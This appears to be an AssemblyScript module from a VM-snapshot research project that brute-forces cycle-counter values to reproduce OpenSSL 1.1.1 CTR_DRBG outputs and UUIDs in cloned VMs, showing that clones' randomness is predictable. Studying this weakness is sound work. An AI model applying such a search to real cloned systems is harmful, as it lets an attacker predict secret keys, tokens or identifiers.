// The attack that makes OpenSSL 1.1.1's clones "predictable" (DESIGN.md "Verdicts"): someone who
// holds the snapshot knows the public DRBG's Key and V, the pid and the thread id; what a clone
// adds by itself to each RAND_bytes is the low 32 bits of its cycle counter
// (rand_unix.c rand_pool_add_additional_data). Knowing the call's virtual time (a replay of the
// same run from the snapshot gives it), only the clone's TSC offset and read jitter are unknown:
// this search tries every candidate counter in a window and recomputes the output with the same
// CTR_DRBG, as an attacker would. It runs on copies; no VM changes.

import { ctrDrbgGenerate, DRBG_STATE_BYTES } from '../crypto/ctr_drbg';
import { threadId } from './libraries';

const STATE = memory.data(48, 16);
const ADIN = memory.data(24, 8);
const OUT = memory.data(64, 16);

/**
 * Tries counters base + k for k in [0, window): the public DRBG state `state` (48 bytes, Key|V,
 * not modified) generating `len` bytes with additional data {pid, tid, counter & 0xffffffff}.
 * `uuid`: the output gets the RFC 9562 version and variant bits before comparing. Writes each
 * k whose output equals `target` to `found` (u32s, at most maxFound) and returns how many
 * matched (-1 for a bad argument).
 */
export function osslSearch(
  state: usize,
  pid: u32,
  base: f64,
  window: u32,
  target: usize,
  len: u32,
  uuid: bool,
  found: usize,
  maxFound: u32,
): i32 {
  if (len == 0 || len > 64 || !(base >= 0) || !isFinite(base)) return -1;
  const b = <u64>base;
  let n: u32 = 0;
  for (let k: u32 = 0; k < window; k++) {
    memory.copy(STATE, state, DRBG_STATE_BYTES);
    memory.fill(ADIN, 0, 24);
    store<u32>(ADIN, pid);
    store<u64>(ADIN + 8, threadId(pid));
    store<u64>(ADIN + 16, (b + <u64>k) & 0xffffffff);
    ctrDrbgGenerate(STATE, OUT, len, ADIN, 24);
    if (uuid) {
      store<u8>(OUT + 6, (load<u8>(OUT + 6) & 0x0f) | 0x40);
      store<u8>(OUT + 8, (load<u8>(OUT + 8) & 0x3f) | 0x80);
    }
    if (memory.compare(OUT, target, len) == 0) {
      if (n < maxFound) store<u32>(found + (<usize>n << 2), k);
      n++;
    }
  }
  return <i32>n;
}

/**
 * The state after one generate with counter `counter` (the DRBG moves on): writes the next
 * Key|V over `state`. Used to step the attacker's copy past a recovered call.
 */
export function osslStep(state: usize, pid: u32, counter: f64, len: u32): void {
  memory.fill(ADIN, 0, 24);
  store<u32>(ADIN, pid);
  store<u64>(ADIN + 8, threadId(pid));
  store<u64>(ADIN + 16, (<u64>counter) & 0xffffffff);
  ctrDrbgGenerate(state, OUT, len, ADIN, 24);
}
